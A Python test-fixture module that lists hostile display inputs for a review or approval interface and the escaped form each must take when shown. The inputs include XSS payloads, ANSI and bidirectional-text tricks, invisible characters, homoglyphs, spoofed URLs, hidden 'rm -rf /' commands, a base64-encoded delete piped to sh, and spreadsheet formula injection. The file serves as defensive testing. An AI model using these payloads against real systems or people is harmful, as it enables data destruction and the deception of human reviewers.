"""Values that try to hide, to pose as something else, or to be more than text; for every place that shows any.

Of each, what a reviewer must be able to read of it, in the exact text that is shown everywhere and hashed with a vote.
A short text stands there as JSON, with its escapes; a longer one line by line, every code point but plain ASCII as its
number.
"""

from __future__ import annotations

from banksman.digest import Json


def _number(point: int) -> str:
    return f"⟦U+{point:04X}⟧"


_ZERO_WIDTH = _number(0x200B)

HOSTILE: dict[str, tuple[Json, str]] = {
    # ---- markup, templates and Markdown
    "script": (
        "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>&lt;b&gt;&#x202e;",
        "<script>alert(1)</script>",
    ),
    "leaves": (
        "</div></details></section><form action=/x><h2>Decide</h2>",
        "</div></details></section><form action=/x>",
    ),
    "textarea": ("</textarea></title></style></noscript><button>Approve</button>", "</textarea></title></style>"),
    "comment": ("<!-- <p>nothing to see --> ]]> <![CDATA[ x", "<!-- <p>nothing to see --> ]]> <![CDATA["),
    "entities": ("&amp;lt; &nbsp; &zwj; &#8238; &#0;", "&amp;lt; &nbsp; &zwj; &#8238; &#0;"),
    "attribute": ('" autofocus onfocus=alert(1) x="\' data-guard=0', "autofocus onfocus=alert(1)"),
    "svg": ("<svg/onload=alert(1)><style>*{display:none}</style>", "<style>*{display:none}</style>"),
    "template": ("{{ 7*7 }}{% raw %}${7*7}<%= 7 %>", "{{ 7*7 }}{% raw %}${7*7}<%= 7 %>"),
    "format": ("{0.__class__} %s %(x)s $HOME `id` $(id)", "{0.__class__} %s %(x)s $HOME `id` $(id)"),
    "markdown": ("[approve](https://evil.example) **bold** `code` <!here>", "[approve](https://evil.example)"),
    "picture": ("![](https://evil.example/?q=secret)", "![](https://evil.example/?q=secret)"),
    "mention": ("<!channel> @everyone <@U123> :white_check_mark:", "<!channel> @everyone <@U123>"),
    "rich": ("[bold red]denied[/bold red] [link=https://evil.example]ok[/link]", "[bold red]denied[/bold red]"),
    # ---- terminals
    "ansi": (
        "\x1b[2K\x1b[1A\x1b]8;;https://evil.example\x07ls\x08\x08rm",
        "\\u001b[2K\\u001b[1A\\u001b]8;;https://evil.example\\u0007ls\\b\\brm",
    ),
    "title": ("\x1b]0;safe\x07", "\\u001b]0;safe\\u0007"),
    "c1": ("\x9b2J\x85next", f"{_number(0x9B)}2J{_number(0x85)}next"),
    "returns": ("rm -rf /\rls   ", "rm -rf /\\rls"),
    "backspaces": ("rm\b\bls", "rm\\b\\bls"),
    "nul": ("safe\0; rm -rf /", "safe\\u0000; rm -rf /"),
    "feeds": ("one\x0bsecond\x0cthird", "one\\u000bsecond\\fthird"),
    "deleted": ("rm\x7f\x7f", f"rm{_number(0x7F)}{_number(0x7F)}"),
    # ---- the direction of writing
    "turned": ("\u202etxt.exe\u2066\u2069", f"{_number(0x202E)}txt.exe{_number(0x2066)}{_number(0x2069)}"),
    "embedded": ("\u202a\u202b\u202c\u202d", "".join(map(_number, range(0x202A, 0x202E)))),
    "isolated": ("\u2067\u2068abc\u2069", f"{_number(0x2067)}{_number(0x2068)}abc"),
    "marks": ("a\u200e\u200f\u061cb", f"a{_number(0x200E)}{_number(0x200F)}{_number(0x061C)}b"),
    "hebrew_path": ("/srv/\u05d0\u05d1/keep", f"/srv/{_number(0x05D0)}{_number(0x05D1)}/keep"),
    # ---- what nobody sees
    "unseen": ("pass\u200bword\u00ad\u3164\U000e0041\ufeff", f"pass{_ZERO_WIDTH}word{_number(0xAD)}{_number(0x3164)}"),
    "joiners": ("a\u200d\u200cb\u2060c", f"a{_number(0x200D)}{_number(0x200C)}b{_number(0x2060)}c"),
    "tags": ("ok\U000e0072\U000e006d", f"ok{_number(0xE0072)}{_number(0xE006D)}"),
    "selectors": ("a\ufe0f\ufe00b\U000e0100", f"a{_number(0xFE0F)}{_number(0xFE00)}b{_number(0xE0100)}"),
    "hangul_fillers": ("\u115f\u1160\uffa0x", f"{_number(0x115F)}{_number(0x1160)}{_number(0xFFA0)}x"),
    "mongolian": ("a\u180eb\u180b", f"a{_number(0x180E)}b{_number(0x180B)}"),
    "braille_blank": ("a\u2800b", f"a{_number(0x2800)}b"),
    "blanks": ("a\u00a0b\u2003c\u3000d", f"a{_number(0xA0)}b{_number(0x2003)}c{_number(0x3000)}d"),
    "line_separators": ("one\u2028two\u2029three", f"one{_number(0x2028)}two{_number(0x2029)}three"),
    "interlinear": ("\ufff9a\ufffab\ufffb", f"{_number(0xFFF9)}a{_number(0xFFFA)}b{_number(0xFFFB)}"),
    "private": ("\ue000\U000f0000", f"{_number(0xE000)}{_number(0xF0000)}"),
    "unassigned": ("\u0378\U0001fffe", f"{_number(0x0378)}{_number(0x1FFFE)}"),
    "combining": ("Z" + "\u0301" * 40, "Z" + _number(0x0301) * 40),
    # ---- what looks like something else
    "looks_alike": (
        "p\u0430ypal \uff0fetc\u2215passwd",
        f"p{_number(0x0430)}ypal {_number(0xFF0F)}etc{_number(0x2215)}",
    ),
    "greek": ("\u0391\u0392\u039f.example", f"{_number(0x0391)}{_number(0x0392)}{_number(0x039F)}.example"),
    "fullwidth": ("\uff52\uff4d -rf", f"{_number(0xFF52)}{_number(0xFF4D)} -rf"),
    "mathematical": ("\U0001d42b\U0001d426", f"{_number(0x1D42B)}{_number(0x1D426)}"),
    "hyphens": ("--\u2010force \u2212f", f"--{_number(0x2010)}force {_number(0x2212)}f"),
    "quotes": ("\u2018a\u2019 \u201cb\u201d", f"{_number(0x2018)}a{_number(0x2019)}"),
    "semicolon": ("ls\u037e rm", f"ls{_number(0x037E)} rm"),
    "composed": (["\u00e9", "e\u0301"], f"e{_number(0x0301)}"),
    "brackets": ("⟦U+202E⟧ \\u202e", f"{_number(0x27E6)}U+202E{_number(0x27E7)} \\\\u202e"),
    "user_in_url": ("https://bank.example@evil.example/%2e%2e/", "https://bank.example@evil.example/%2e%2e/"),
    "punycode": ("https://xn--pple-43d.example", "https://xn--pple-43d.example"),
    "zone": ("http://[fe80::1%25eth0]:80\\@evil.example", "http://[fe80::1%25eth0]:80\\\\@evil.example"),
    "javascript": ("javascript:alert(1)//data:text/html,<h1>", "javascript:alert(1)//data:text/html,<h1>"),
    # ---- what poses as a part of the page
    "poses": ("ls\nwarning: none\ntool: read_file\n    2  | safe\n", "    2  | warning: none"),
    "fake_form": ("APPROVED by Ana\n[ Approve ]  [ Deny ]", "    1  | APPROVED by Ana"),
    "fake_numbers": ("1  | rm\n    1  | ls", "    2  |     1  | ls"),
    "fake_summary": ("text (file, 1 line, 3 bytes)\nls", "    1  | text (file, 1 line, 3 bytes)"),
    "tool": ("read_file", 'tool: "read_file"'),
    # ---- what is pushed out of sight
    "below": ("ls" + "\n" * 60 + "rm -rf /", "   61  | rm -rf /"),
    "aside": ("ls" + " " * 400 + "; rm -rf /", "ls" + " " * 400 + "; rm -rf /"),
    "tabs": ("ls" + "\t" * 80 + "; rm", "ls" + "\\t" * 80 + "; rm"),
    "long_line": ("x" * 100_000 + "end", "x" * 100_000 + "end"),
    "many_lines": ("".join(f"line {number}\n" for number in range(5_000)), " 5000  | line 4999"),
    "shell": ("echo ok \\\n&& rm -rf / # echo ok", "    2  | && rm -rf / # echo ok"),
    "here_document": ("cat <<'END'\nls\nEND\nrm -rf /", "    4  | rm -rf /"),
    "encoded": ("echo cm0gLXJmIC8= | base64 -d | sh", "echo cm0gLXJmIC8= | base64 -d | sh"),
    # ---- shapes
    "table": ([{"to": "ana\u200b", "sum": 1}, {"to": '" | 9', "sum": "</td>"}], f"ana{_ZERO_WIDTH}"),
    "formulas": ([{"a": "=cmd|' /C calc'!A0"}, {"a": "@SUM(1+1)"}], "=cmd|' /C calc'!A0"),
    "tree": ({"</summary>": [{"\u202ekey": None}, [], {}]}, f"{_number(0x202E)}key"),
    "names": ({"": 1, "a\nb": 2, "a b": 3, "__proto__": 4}, '"a\\nb"'),
    "json_in_text": ('{"tool": "read_file", "arguments": {}}', '"{\\"tool\\": \\"read_file\\", \\"arguments\\": {}}"'),
    "deep": ([[[[[[[[[[[[["end"]]]]]]]]]]]]], '"end"'),
    "numbers": ([0.1, 1e300, -1.5, 9007199254740991], "9007199254740991"),
    "kinds": (["1", 1, True, "true", None, "null"], '"true"'),
}
VALUES: dict[str, Json] = {name: value for name, (value, _) in HOSTILE.items()}
